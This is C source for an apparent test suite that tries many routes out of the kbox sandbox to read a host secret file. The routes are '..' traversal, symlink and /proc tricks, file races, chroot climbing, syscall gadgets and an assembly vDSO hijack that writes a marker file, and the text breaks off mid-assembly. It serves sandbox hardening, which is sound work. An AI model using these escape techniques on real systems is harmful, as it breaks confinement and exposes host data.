/*
 * escape - sandbox escape-attempt suite for kbox guest tests.
 *
 * Usage: escape HOSTDIR SECRET
 *
 * HOSTDIR is a host directory outside the guest root that contains
 * secret.txt (whose content includes SECRET) and a subdirectory.  Every
 * attempt tries to reach that content (or HOSTDIR's listing) by a different
 * route and prints one line:
 *     blocked <name>: <reason>       or       ESCAPED <name>: <detail>
 * Each attempt runs in its own child process (so chdir/chroot/threads do not
 * leak into the next one) with a 60 s alarm.  Exit status = number of escapes.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <elf.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_openat2
#define SYS_openat2 437
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#define K_RESOLVE_IN_ROOT 0x10
struct k_open_how { uint64_t flags, mode, resolve; };

#define ITER 20000
#define DETAIL 1024

static const char *g_host;          /* HOSTDIR, absolute, no trailing slash */
static const char *g_host_rel;      /* HOSTDIR without the leading '/' */
static const char *g_secret;
static char g_secret_path[1100];    /* HOSTDIR/secret.txt (HOSTDIR < 1024 chars) */
static int g_inherited[1024], g_ninherited;
static pid_t g_ppid;

/* ---------------------------------------------------------------- helpers */

static const char *en(int e)
{
	static char buf[16];
	switch (e) {
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	case EIO: return "EIO";
	case ENXIO: return "ENXIO";
	case ENOEXEC: return "ENOEXEC";
	case EBADF: return "EBADF";
	case EAGAIN: return "EAGAIN";
	case ENOMEM: return "ENOMEM";
	case EACCES: return "EACCES";
	case EFAULT: return "EFAULT";
	case EBUSY: return "EBUSY";
	case EEXIST: return "EEXIST";
	case EXDEV: return "EXDEV";
	case ENODEV: return "ENODEV";
	case ENOTDIR: return "ENOTDIR";
	case EISDIR: return "EISDIR";
	case EINVAL: return "EINVAL";
	case EMFILE: return "EMFILE";
	case ETXTBSY: return "ETXTBSY";
	case ENOSPC: return "ENOSPC";
	case EROFS: return "EROFS";
	case EMLINK: return "EMLINK";
	case ENAMETOOLONG: return "ENAMETOOLONG";
	case ENOSYS: return "ENOSYS";
	case ENOTEMPTY: return "ENOTEMPTY";
	case ELOOP: return "ELOOP";
	case EOPNOTSUPP: return "EOPNOTSUPP";
	case EAFNOSUPPORT: return "EAFNOSUPPORT";
	case ECONNREFUSED: return "ECONNREFUSED";
	case ENOTSOCK: return "ENOTSOCK";
	case ESTALE: return "ESTALE";
	default: snprintf(buf, sizeof buf, "E%d", e); return buf;
	}
}

/* append to a detail buffer */
static void addf(char *d, const char *fmt, ...)
{
	size_t len = strlen(d);
	va_list ap;
	if (len >= DETAIL - 1)
		return;
	va_start(ap, fmt);
	vsnprintf(d + len, DETAIL - len, fmt, ap);
	va_end(ap);
}

/* read everything from fd and search for SECRET; 1 if found */
static int read_and_check(int fd)
{
	static char buf[1 << 20];
	size_t len = 0;
	ssize_t n;
	while (len < sizeof buf - 1 && (n = read(fd, buf + len, sizeof buf - 1 - len)) > 0)
		len += (size_t)n;
	return memmem(buf, len, g_secret, strlen(g_secret)) != NULL;
}

static int dir_has_entry(int dfd, const char *name)
{
	int fd = openat(dfd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC), found = 0;
	DIR *d;
	struct dirent *de;
	if (fd < 0 || !(d = fdopendir(fd))) {
		if (fd >= 0)
			close(fd);
		return 0;
	}
	while ((de = readdir(d)))
		if (strcmp(de->d_name, name) == 0)
			found = 1;
	closedir(d);
	return found;
}

/* Is directory dfd HOSTDIR, or an ancestor from which HOSTDIR is reachable? */
static int check_dir(int dfd)
{
	const char *rels[2];
	char rel[PATH_MAX];
	int i;
	snprintf(rel, sizeof rel, "%s/secret.txt", g_host_rel);
	rels[0] = "secret.txt";
	rels[1] = rel;
	for (i = 0; i < 2; i++) {
		int fd = openat(dfd, rels[i], O_RDONLY | O_CLOEXEC), hit;
		if (fd < 0) {
			/* secret.txt listed but unreadable: the listing itself leaked */
			if (i == 0 && errno != ENOENT && dir_has_entry(dfd, "secret.txt"))
				return 1;
			continue;
		}
		hit = read_and_check(fd);
		close(fd);
		if (hit)
			return 1;
	}
	return 0;
}

/* Open path at dirfd; 1 = SECRET reached, 0 = opened but harmless, -errno on failure. */
static int probe_at(int dirfd, const char *path)
{
	struct stat st;
	int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC), hit;
	if (fd < 0)
		return -errno;
	if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
		hit = check_dir(fd);
	else
		hit = read_and_check(fd);
	close(fd);
	return hit;
}

static int probe(const char *path) { return probe_at(AT_FDCWD, path); }

/* Probe several paths; first hit => escaped.  Outcomes summarised into d. */
static int try_paths(char *d, const char *const *paths, int n)
{
	int i;
	for (i = 0; i < n; i++) {
		int rc = probe(paths[i]);
		if (rc == 1) {
			d[0] = '\0';
			addf(d, "read secret via %s", paths[i]);
			return 1;
		}
		addf(d, "%s%s=%s", i ? ", " : "", paths[i], rc == 0 ? "opened-no-secret" : en(-rc));
	}
	return 0;
}

static void mkdir_p(const char *path)
{
	char tmp[PATH_MAX], *p;
	snprintf(tmp, sizeof tmp, "%s", path);
	for (p = tmp + 1; *p; p++) {
		if (*p == '/') {
			*p = '\0';
			mkdir(tmp, 0755);
			*p = '/';
		}
	}
	mkdir(tmp, 0755);
}

static int write_file(const char *path, const char *content)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	ssize_t n;
	if (fd < 0)
		return -1;
	n = write(fd, content, strlen(content));
	close(fd);
	return n < 0 ? -1 : 0;
}

static char *dotdots(char *buf, size_t sz, int count, const char *tail)
{
	int i;
	buf[0] = '\0';
	for (i = 0; i < count; i++)
		strncat(buf, "../", sz - strlen(buf) - 1);
	strncat(buf, tail, sz - strlen(buf) - 1);
	return buf;
}

/* --------------------------------------------------------------- attempts */

typedef int (*attempt_fn)(char *d);

static int a_dotdot_abs(char *d)
{
	char p1[PATH_MAX], p2[PATH_MAX];
	const char *ps[] = { p1, p2 };
	snprintf(p1, sizeof p1, "/../../../..%s", g_secret_path);
	snprintf(p2, sizeof p2, "/../../../../../../../../../../..%s/", g_host);
	return try_paths(d, ps, 2);
}

static int a_dotdot_rel_root(char *d)
{
	char p1[PATH_MAX], p2[PATH_MAX];
	const char *ps[] = { p1, p2 };
	if (chdir("/") < 0)
		return addf(d, "chdir /: %s", en(errno)), 0;
	snprintf(p1, sizeof p1, "../../../../..%s", g_secret_path);
	snprintf(p2, sizeof p2, "./../../../../../../../../../../..%s", g_host);
	return try_paths(d, ps, 2);
}

static int deep_climb(char *d, const char *base)
{
	char deep[PATH_MAX], p1[PATH_MAX], p2[PATH_MAX], t[PATH_MAX];
	const char *ps[] = { p1, p2 };
	int r;
	snprintf(deep, sizeof deep, "%s/a/b/c", base);
	mkdir_p(deep);
	if (chdir(deep) < 0)
		return addf(d, "setup chdir %s: %s", deep, en(errno)), 0;
	snprintf(t, sizeof t, "%s/secret.txt", g_host_rel);
	dotdots(p1, sizeof p1, 12, t);
	dotdots(p2, sizeof p2, 3, t);
	r = try_paths(d, ps, 2);
	if (chdir("/") == 0) {
		snprintf(deep, sizeof deep, "%s/a/b/c", base), rmdir(deep);
		snprintf(deep, sizeof deep, "%s/a/b", base), rmdir(deep);
		snprintf(deep, sizeof deep, "%s/a", base), rmdir(deep);
		rmdir(base);
	}
	return r;
}
static int a_dotdot_rel_tmp_deep(char *d) { return deep_climb(d, "/tmp/esc_deep"); }
static int a_dotdot_rel_root_deep(char *d) { return deep_climb(d, "/esc_deep"); }

static int a_chdir_dotdot_50(char *d)
{
	char p1[PATH_MAX], cwd[PATH_MAX];
	const char *ps[] = { p1, "." };
	int i, fails = 0;
	if (chdir("/tmp") < 0)
		return addf(d, "chdir /tmp: %s", en(errno)), 0;
	for (i = 0; i < 50; i++)
		fails += chdir("..") < 0;
	snprintf(p1, sizeof p1, "%s/secret.txt", g_host_rel);
	addf(d, "cwd=%s chdir-fails=%d ", getcwd(cwd, sizeof cwd) ? cwd : en(errno), fails);
	return try_paths(d, ps, 2);
}

static int symlink_attempt(char *d, const char *link, const char *target, const char *const *ps, int n)
{
	int r;
	unlink(link);
	if (symlink(target, link) < 0)
		return addf(d, "symlink %s: %s", link, en(errno)), 0;
	r = try_paths(d, ps, n);
	unlink(link);
	return r;
}

static int a_symlink_abs(char *d)
{
	const char *ps[] = { "/tmp/esc_sl_abs" };
	return symlink_attempt(d, ps[0], g_secret_path, ps, 1);
}

static int a_symlink_rel(char *d)
{
	char t[PATH_MAX];
	const char *ps[] = { "/tmp/esc_sl_rel" };
	snprintf(t, sizeof t, "../../../../..%s", g_secret_path);
	return symlink_attempt(d, ps[0], t, ps, 1);
}

static int a_symlink_root(char *d)
{
	char p1[PATH_MAX], p2[PATH_MAX], p3[PATH_MAX];
	const char *ps[] = { p1, p2, p3 };
	snprintf(p1, sizeof p1, "/tmp/esc_sl_root%s", g_secret_path);
	snprintf(p2, sizeof p2, "/tmp/esc_sl_root/../../..%s", g_secret_path);
	snprintf(p3, sizeof p3, "/tmp/esc_sl_root/%s", g_host_rel);
	return symlink_attempt(d, "/tmp/esc_sl_root", "/", ps, 3);
}

static int a_symlink_loop(char *d)
{
	int fd;
	unlink("/tmp/esc_loop_a");
	unlink("/tmp/esc_loop_b");
	if (symlink("/tmp/esc_loop_b", "/tmp/esc_loop_a") < 0 ||
	    symlink("esc_loop_a", "/tmp/esc_loop_b") < 0)
		return addf(d, "setup symlink: %s", en(errno)), 0;
	fd = open("/tmp/esc_loop_a", O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		addf(d, "open of a symlink loop succeeded (unexpected, no secret)");
		close(fd);
	} else {
		addf(d, "%s%s", en(errno), errno == ELOOP ? " (as expected)" : " (expected ELOOP)");
	}
	unlink("/tmp/esc_loop_a");
	unlink("/tmp/esc_loop_b");
	return 0;
}

static int a_proc_self_root(char *d)
{
	char p1[PATH_MAX], p2[PATH_MAX], p3[PATH_MAX];
	const char *ps[] = { p1, p2, p3 };
	snprintf(p1, sizeof p1, "/proc/self/root%s", g_secret_path);
	snprintf(p2, sizeof p2, "/proc/thread-self/root%s", g_secret_path);
	snprintf(p3, sizeof p3, "/proc/self/root/../../..%s", g_secret_path);
	return try_paths(d, ps, 3);
}

static int a_proc_self_cwd(char *d)
{
	char p2[PATH_MAX], p3[PATH_MAX];
	const char *ps[] = { "/proc/self/cwd/..", p2, p3 };
	if (chdir("/") < 0)
		return addf(d, "chdir /: %s", en(errno)), 0;
	snprintf(p2, sizeof p2, "/proc/self/cwd/../../..%s", g_secret_path);
	snprintf(p3, sizeof p3, "/proc/self/cwd%s", g_secret_path);
	return try_paths(d, ps, 3);
}

static int add_pid(pid_t *pids, int n, pid_t p)
{
	int i;
	if (p <= 0 || n >= 4096)
		return n;
	for (i = 0; i < n; i++)
		if (pids[i] == p)
			return n;
	pids[n] = p;
	return n + 1;
}

static int a_proc_pids(char *d)
{
	static pid_t pids[4096];
	int n = 0, i, j, listed = 0, opened = 0, tried = 0, firsterr = 0;
	DIR *dir = opendir("/proc");
	struct dirent *de;
	if (dir) {
		while ((de = readdir(dir)))
			if (de->d_name[0] >= '1' && de->d_name[0] <= '9')
				n = add_pid(pids, n, (pid_t)atoi(de->d_name)), listed++;
		closedir(dir);
	}
	for (i = 1; i <= 64; i++)
		n = add_pid(pids, n, i);
	n = add_pid(pids, n, g_ppid);
	n = add_pid(pids, n, getppid());
	for (i = 0; i < n; i++) {
		char p[4][PATH_MAX];
		snprintf(p[0], PATH_MAX, "/proc/%d/root%s", (int)pids[i], g_secret_path);
		snprintf(p[1], PATH_MAX, "/proc/%d/cwd", (int)pids[i]);
		snprintf(p[2], PATH_MAX, "/proc/%d/cwd/..", (int)pids[i]);
		snprintf(p[3], PATH_MAX, "/proc/%d/cwd/../../../..%s", (int)pids[i], g_secret_path);
		for (j = 0; j < 4; j++) {
			int rc = probe(p[j]);
			tried++;
			if (rc == 1)
				return addf(d, "read secret via %s", p[j]), 1;
			if (rc == 0)
				opened++;
			else if (!firsterr)
				firsterr = -rc;
		}
	}
	addf(d, "%d pids (%d listed in /proc), %d paths, %d opened harmlessly, first error %s", n,
	     listed, tried, opened, firsterr ? en(firsterr) : "none");
	return 0;
}

static int a_proc_self_fd(char *d)
{
	int fdn, j, opened = 0, firsterr = 0;
	for (fdn = 0; fdn <= 64; fdn++) {
		char p[3][PATH_MAX];
		snprintf(p[0], PATH_MAX, "/proc/self/fd/%d/..", fdn);
		snprintf(p[1], PATH_MAX, "/proc/self/fd/%d%s", fdn, g_secret_path);
		snprintf(p[2], PATH_MAX, "/proc/self/fd/%d/../../../..%s", fdn, g_secret_path);
		for (j = 0; j < 3; j++) {
			int rc = probe(p[j]);
			if (rc == 1)
				return addf(d, "read secret via %s", p[j]), 1;
			if (rc == 0)
				opened++;
			else if (!firsterr)
				firsterr = -rc;
		}
	}
	addf(d, "fds 0..64: %d opened harmlessly, first error %s", opened,
	     firsterr ? en(firsterr) : "none");
	return 0;
}

static int a_openat_inherited(char *d)
{
	char p1[PATH_MAX], p2[PATH_MAX];
	const char *rels[] = { p1, p2, "secret.txt", ".." };
	int i, j;
	snprintf(p1, sizeof p1, "../../../../..%s", g_secret_path);
	snprintf(p2, sizeof p2, "%s/secret.txt", g_host_rel);
	addf(d, "inherited fds:");
	for (i = 0; i < g_ninherited; i++) {
		int fd = g_inherited[i];
		addf(d, " %d", fd);
		for (j = 0; j < 4; j++)
			if (probe_at(fd, rels[j]) == 1)
				return d[0] = '\0', addf(d, "openat(%d, %s) read secret", fd, rels[j]), 1;
		if (fchdir(fd) == 0) {
			if (probe(p1) == 1 || probe(p2) == 1)
				return d[0] = '\0', addf(d, "fchdir(%d) + relative open read secret", fd), 1;
			if (chdir("/") < 0)
				return addf(d, " (chdir / failed)"), 0;
		}
	}
	return 0;
}

static int a_moved_cwd(char *d)
{
	char p1[PATH_MAX], p2[PATH_MAX], cwd[PATH_MAX];
	const char *ps[] = { p1, p2, ".." };
	int i, r;
	if (chdir("/")) { /* best effort */ }
	rmdir("/tmp/a2/b");
	rmdir("/tmp/a2");
	mkdir_p("/tmp/mv/a/b");
	if (chdir("/tmp/mv/a/b") < 0)
		return addf(d, "setup chdir: %s", en(errno)), 0;
	if (rename("/tmp/mv/a", "/tmp/a2") < 0)
		addf(d, "rename: %s; ", en(errno));
	snprintf(p1, sizeof p1, "../../../../../..%s", g_secret_path);
	snprintf(p2, sizeof p2, "%s/secret.txt", g_host_rel);
	addf(d, "cwd after move=%s; ", getcwd(cwd, sizeof cwd) ? cwd : en(errno));
	r = try_paths(d, ps, 1);
	for (i = 0; !r && i < 20; i++)
		if (chdir("..") < 0)
			break;
	if (!r) {
		addf(d, "; after climbing cwd=%s: ", getcwd(cwd, sizeof cwd) ? cwd : en(errno));
		r = try_paths(d, ps + 1, 1);
	}
	if (chdir("/") == 0) {
		rmdir("/tmp/a2/b");
		rmdir("/tmp/a2");
		rmdir("/tmp/mv/a/b");
		rmdir("/tmp/mv/a");
		rmdir("/tmp/mv");
	}
	return r;
}

static int a_hardlink(char *d)
{
	const char *ps[] = { "/tmp/esc_hl" };
	int r;
	unlink("/tmp/esc_hl");
	if (link(g_secret_path, "/tmp/esc_hl") < 0)
		return addf(d, "link: %s", en(errno)), 0;
	addf(d, "link succeeded; ");
	r = try_paths(d, ps, 1);
	unlink("/tmp/esc_hl");
	return r;
}

static int mknod_attempt(char *d, mode_t type, unsigned maj, unsigned min)
{
	const char *path = "/tmp/esc_dev";
	unlink(path);
	if (mknod(path, type | 0666, makedev(maj, min)) < 0)
		return addf(d, "mknod %s %u,%u: %s", type == S_IFCHR ? "chr" : "blk", maj, min, en(errno)), 0;
	unlink(path);
	return addf(d, "created %s device %u,%u", type == S_IFCHR ? "char" : "block", maj, min), 1;
}
static int a_mknod_chr_1_3(char *d) { return mknod_attempt(d, S_IFCHR, 1, 3); }
static int a_mknod_blk_8_0(char *d) { return mknod_attempt(d, S_IFBLK, 8, 0); }

/* -- races -- */
static volatile int g_stop;
static char g_racebuf[PATH_MAX];

static void *flip_buffer(void *arg)
{
	volatile char *b = g_racebuf;
	size_t i, lb = strlen("/tmp/benign") + 1, ls = strlen(g_secret_path) + 1;
	(void)arg;
	while (!g_stop) {
		for (i = 0; i < lb; i++)
			b[i] = "/tmp/benign"[i];
		for (i = 0; i < ls; i++)
			b[i] = g_secret_path[i];
	}
	return NULL;
}

static int a_toctou_path_buffer(char *d)
{
	pthread_t th;
	int i, hits = 0, opened = 0;
	if (write_file("/tmp/benign", "benign content\n") < 0)
		return addf(d, "setup /tmp/benign: %s", en(errno)), 0;
	strcpy(g_racebuf, "/tmp/benign");
	g_stop = 0;
	if (pthread_create(&th, NULL, flip_buffer, NULL) != 0)
		return addf(d, "pthread_create failed"), 0;
	for (i = 0; i < ITER; i++) {
		int fd = open(g_racebuf, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		opened++;
		hits += read_and_check(fd);
		close(fd);
	}
	g_stop = 1;
	pthread_join(th, NULL);
	unlink("/tmp/benign");
	addf(d, "%d opens, %d succeeded, %d read the secret", ITER, opened, hits);
	return hits > 0;
}

static int g_exchange_ok;
static void *swap_dir_symlink(void *arg)
{
	(void)arg;
	while (!g_stop) {
		if (g_exchange_ok) {
			syscall(SYS_renameat2, AT_FDCWD, "/tmp/race/d", AT_FDCWD, "/tmp/race/l",
				RENAME_EXCHANGE);
		} else {
			rename("/tmp/race/d", "/tmp/race/real");
			rename("/tmp/race/l", "/tmp/race/d");
			rename("/tmp/race/d", "/tmp/race/l");
			rename("/tmp/race/real", "/tmp/race/d");
		}
	}
	return NULL;
}

static void race_cleanup(void)
{
	const char *names[] = { "/tmp/race/d", "/tmp/race/l", "/tmp/race/real" };
	size_t i;
	for (i = 0; i < 3; i++) {
		struct stat st;
		char f[PATH_MAX];
		if (lstat(names[i], &st) < 0)
			continue;
		if (S_ISLNK(st.st_mode)) {
			unlink(names[i]);
		} else if (S_ISDIR(st.st_mode)) {
			snprintf(f, sizeof f, "%s/secret.txt", names[i]);
			unlink(f);
			rmdir(names[i]);
		}
	}
	rmdir("/tmp/race");
}

static int a_race_dir_symlink_swap(char *d)
{
	pthread_t th;
	int i, hits = 0, opened = 0;
	race_cleanup();
	mkdir_p("/tmp/race/d");
	if (write_file("/tmp/race/d/secret.txt", "benign\n") < 0 || symlink(g_host, "/tmp/race/l") < 0)
		return addf(d, "setup: %s", en(errno)), 0;
	g_exchange_ok = syscall(SYS_renameat2, AT_FDCWD, "/tmp/race/d", AT_FDCWD, "/tmp/race/l",
				RENAME_EXCHANGE) == 0;
	addf(d, "swap via %s; ", g_exchange_ok ? "RENAME_EXCHANGE" : "rename");
	g_stop = 0;
	if (pthread_create(&th, NULL, swap_dir_symlink, NULL) != 0)
		return addf(d, "pthread_create failed"), 0;
	for (i = 0; i < ITER; i++) {
		int fd = open("/tmp/race/d/secret.txt", O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		opened++;
		hits += read_and_check(fd);
		close(fd);
	}
	g_stop = 1;
	pthread_join(th, NULL);
	race_cleanup();
	addf(d, "%d opens, %d succeeded, %d read the secret", ITER, opened, hits);
	return hits > 0;
}

static int a_openat2_in_root(char *d)
{
	struct k_open_how how;
	char p[PATH_MAX];
	int dfd = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC), fd, hit;
	if (dfd < 0)
		return addf(d, "open /: %s", en(errno)), 0;
	memset(&how, 0, sizeof how);
	how.flags = O_RDONLY | O_CLOEXEC;
	how.resolve = K_RESOLVE_IN_ROOT;
	snprintf(p, sizeof p, "../..%s", g_secret_path);
	fd = (int)syscall(SYS_openat2, dfd, p, &how, sizeof how);
	close(dfd);
	if (fd < 0)
		return addf(d, "openat2(/, %s, RESOLVE_IN_ROOT): %s", p, en(errno)), 0;
	hit = read_and_check(fd);
	close(fd);
	addf(d, "openat2(/, %s, RESOLVE_IN_ROOT) %s", p, hit ? "read secret" : "opened, no secret");
	return hit;
}

static int a_chroot_climb(char *d)
{
	char p1[PATH_MAX], p2[PATH_MAX];
	const char *ps[] = { p1, p2, g_secret_path };
	int i;
	if (chdir("/") < 0 || chroot("/tmp") < 0)
		return addf(d, "chroot /tmp: %s", en(errno)), 0;
	addf(d, "chroot ok; ");
	for (i = 0; i < 50; i++)
		if (chdir("..") < 0)
			break;
	snprintf(p1, sizeof p1, "%s/secret.txt", g_host_rel);
	snprintf(p2, sizeof p2, "../../../../..%s", g_secret_path);
	return try_paths(d, ps, 3);
}

static int a_unix_connect_host(char *d)
{
	struct sockaddr_un sa;
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), rc, e;
	if (fd < 0)
		return addf(d, "socket: %s", en(errno)), 0;
	memset(&sa, 0, sizeof sa);
	sa.sun_family = AF_UNIX;
	snprintf(sa.sun_path, sizeof sa.sun_path, "%s/sock", g_host);
	rc = connect(fd, (struct sockaddr *)&sa, sizeof sa);
	e = errno;
	close(fd);
	if (rc == 0)
		return addf(d, "connected to host socket %s", sa.sun_path), 1;
	if (e == ECONNREFUSED)
		return addf(d, "host socket %s is visible (ECONNREFUSED)", sa.sun_path), 1;
	return addf(d, "connect %s: %s", sa.sun_path, en(e)), 0;
}

static int a_exec_host_prog(char *d)
{
	char path[PATH_MAX];
	int pfd[2], e = 0, st;
	pid_t pid;
	ssize_t n;
	snprintf(path, sizeof path, "%s/prog", g_host);
	if (pipe2(pfd, O_CLOEXEC) < 0)
		return addf(d, "pipe: %s", en(errno)), 0;
	fflush(stdout);
	pid = fork();
	if (pid < 0)
		return addf(d, "fork: %s", en(errno)), 0;
	if (pid == 0) {
		char *argv[] = { path, NULL };
		execve(path, argv, environ);
		e = errno;
		if (write(pfd[1], &e, sizeof e) < 0)
			_exit(126);
		_exit(127);
	}
	close(pfd[1]);
	n = read(pfd[0], &e, sizeof e);
	close(pfd[0]);
	waitpid(pid, &st, 0);
	if (n != (ssize_t)sizeof e)
		return addf(d, "execve(%s) succeeded", path), 1;
	if (e != ENOENT)
		return addf(d, "execve(%s) failed with %s, expected ENOENT (host file visible)", path,
			    en(e)), 1;
	return addf(d, "execve(%s): ENOENT", path), 0;
}

/* ------------------------------------------------------------------ main */

/*
 * Jump into a `syscall; ret` sequence in executable memory the guest did
 * not map itself (/proc/self/maps): under the in-process tiers that is
 * kbox's own code, which the interception filter lets through, so the
 * kernel resolves the path the guest chose. Only a kernel backstop
 * (Landlock on the guest thread) stands in the way. Under the seccomp tier
 * every mapping is the guest's own and the call is intercepted as usual.
 */
#if defined(__x86_64__)
static long gadget_call(const unsigned char *g, long nr, long a, long b, long c)
{
	long ret;
	register long r10 __asm__("r10") = 0;
	/* skip the red zone: the call pushes a return address */
	__asm__ volatile("sub $128, %%rsp\n\tcall *%[g]\n\tadd $128, %%rsp"
			 : "=a"(ret)
			 : [g] "r"(g), "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory", "cc");
	return ret;
}
#elif defined(__aarch64__)
static long gadget_call(const unsigned char *g, long nr, long a, long b, long c)
{
	register long x8 __asm__("x8") = nr;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = 0;
	register const unsigned char *x16 __asm__("x16") = g;
	/* blr: the gadget's ret comes back through x30 */
	__asm__ volatile("blr x16"
			 : "+r"(x0), "+r"(x16)
			 : "r"(x8), "r"(x1), "r"(x2), "r"(x3)
			 : "x30", "x17", "memory", "cc");
	return x0;
}
#else
#error "escape.c: no gadget call for this architecture"
#endif

/* The first `syscall; ret` in executable memory the guest did not map
 * (/proc/self/maps lists the guest's own program first), or NULL. */
static const unsigned char *foreign_gadget(void)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	char line[512], self[PATH_MAX];
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
	const unsigned char *found = NULL;
	if (!maps)
		return NULL;
	self[n > 0 ? n : 0] = '\0';
	while (!found && fgets(line, sizeof line, maps)) {
		unsigned long lo, hi;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[2] != 'x' ||
		    strstr(line, "[vsyscall]") || (self[0] && strstr(line, self)))
			continue;
#if defined(__x86_64__)
		for (unsigned long p = lo; p + 3 <= hi; p++) {
			const unsigned char *g = (const unsigned char *)p;
			if (g[0] == 0x0f && g[1] == 0x05 && g[2] == 0xc3) {
				found = g;
				break;
			}
		}
#else
		/* svc #0; ret */
		for (unsigned long p = lo; p + 8 <= hi; p += 4) {
			const uint32_t *g = (const uint32_t *)p;
			if (g[0] == 0xd4000001 && g[1] == 0xd65f03c0) {
				found = (const unsigned char *)g;
				break;
			}
		}
#endif
	}
	fclose(maps);
	return found;
}

/* Signal a process outside the guest (the parent of the process the guest
 * runs in) through such a sequence: kill(ppid, 0) succeeding means the
 * guest could signal a host process. */
static int a_signal_gadget(char *d)
{
	const unsigned char *g = foreign_gadget();
	long ppid = getppid(), r;
	if (!g)
		return addf(d, "no foreign syscall;ret sequence (or no /proc)"), 0;
	r = gadget_call(g, SYS_kill, ppid, 0, 0);
	if (r == 0 && ppid > 1 && kill((pid_t)ppid, 0) != 0)
		return addf(d, "kill(%ld, 0) through %p succeeded where kill() is refused (%s)", ppid, (const void *)g,
			    en(errno)), 1;
	return addf(d, "kill(%ld, 0) through %p: %s", ppid, (const void *)g, r ? en((int)-r) : "0 (and kill() agrees)"), 0;
}

static int a_syscall_gadget(char *d)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	char line[512];
	int tried = 0, last_err = 0;
	if (!maps)
		return addf(d, "no /proc/self/maps: %s", en(errno)), 0;
	/* a few from every executable mapping, so that code the guest did
	 * not map (kbox's, libc's) is reached whatever the layout */
	while (tried < 64 && fgets(line, sizeof line, maps)) {
		unsigned long lo, hi;
		char perms[8];
		int here = 0;
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[2] != 'x' ||
		    strstr(line, "[vsyscall]"))
			continue;
		for (unsigned long p = lo; p + 3 <= hi && here < 4 && tried < 64; p++) {
			const unsigned char *g = (const unsigned char *)p;
			long fd;
			if (g[0] != 0x0f || g[1] != 0x05 || g[2] != 0xc3)
				continue;
			tried++;
			here++;
			fd = gadget_call(g, SYS_openat, AT_FDCWD, (long)g_secret_path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0) {
				/* read through the gadget too: the descriptor is the
				 * host's, not in a virtual table */
				static char buf[4096];
				long n = gadget_call(g, SYS_read, fd, (long)buf, sizeof buf - 1);
				int hit = n > 0 && memmem(buf, (size_t)n, g_secret, strlen(g_secret)) != NULL;
				gadget_call(g, SYS_close, fd, 0, 0);
				if (hit) {
					fclose(maps);
					return addf(d, "openat(%s) through a syscall at %p read the secret", g_secret_path,
						    (const void *)g), 1;
				}
			} else {
				last_err = (int)-fd;
			}
		}
	}
	fclose(maps);
	return addf(d, "%d syscall;ret sequences tried, last error %s", tried, tried ? en(last_err) : "-"), 0;
}

/*
 * Take over kbox's own threads (in-process tiers): the guest shares kbox's
 * address space, so it can rewrite code that kbox's other threads run. Here
 * the vDSO's __vdso_clock_gettime, which every Go thread calls (sysmon
 * several times per millisecond), is made to jump to hijack_code below: on
 * whatever thread runs it, that code opens the host secret and, if it can,
 * creates HOSTDIR/PWNED; then it does the real clock_gettime. The code
 * injection itself succeeds (the guest owns that memory); what must hold is
 * that no thread of the process can reach the host: the kernel confines
 * every thread of it (Landlock, the in-process filter), not only the
 * guest's. The test harness checks that HOSTDIR/PWNED does not exist.
 *
 * The vDSO is made writable with mprotect through a `syscall; ret` of
 * kbox's (kbox refuses the guest's own mprotect of its mappings); the
 * write to /proc/self/mem is tried first and must be refused in-process.
 */
static char g_marker_path[1100];
static volatile long g_hijack_runs, g_hijack_opened;

#if defined(__x86_64__)
extern char hijack_code[];
__asm__(".text\n"
	".globl hijack_code\n"
	"hijack_code:\n"
	"	lock incq g_hijack_runs(%rip)\n"
	"	push %rdi\n"
	"	push %rsi\n"
	"	push $257\n" /* openat; push/pop: no `mov $nr,%eax; syscall` for the rewriter */
	"	pop %rax\n"
	"	mov $-100, %rdi\n"
	"	lea g_secret_path(%rip), %rsi\n"
	"	xor %edx, %edx\n"
	"	syscall\n"
	"	test %rax, %rax\n"
	"	js 1f\n"
	"	lock incq g_hijack_opened(%rip)\n"
	"	mov %rax, %rdi\n"
	"	push $3\n" /* close */
	"	pop %rax\n"
	"	syscall\n"
	"	push $257\n"
	"	pop %rax\n"
	"	mov $-100, %rdi\n"
	"	lea g_marker_path(%rip), %rsi\n"
	"	mov $0x41, %edx\n" /* O_WRONLY|O_CREAT */
	"	mov $0644, %r10d\n"
	"	syscall\n"
	"	test %rax, %rax\n"
	"	js 1f\n"
	"	mov %rax, %rdi\n"
	"	push $3\n"
	"	pop %rax\n"
	"	syscall\n"
	"1:	pop %rsi\n"
	"	pop %rdi\n"
	"	push $228\n" /* clock_gettime */
	"	pop %rax\n"
	"	syscall\n"
	"	ret\n");
#else
extern char hijack_code[];
__asm__(".text\n"
	".globl hijack_code\n"
	".p2align 2\n"
	"hijack_code:\n"
	"	stp x29, x30, [sp, #-48]!\n"
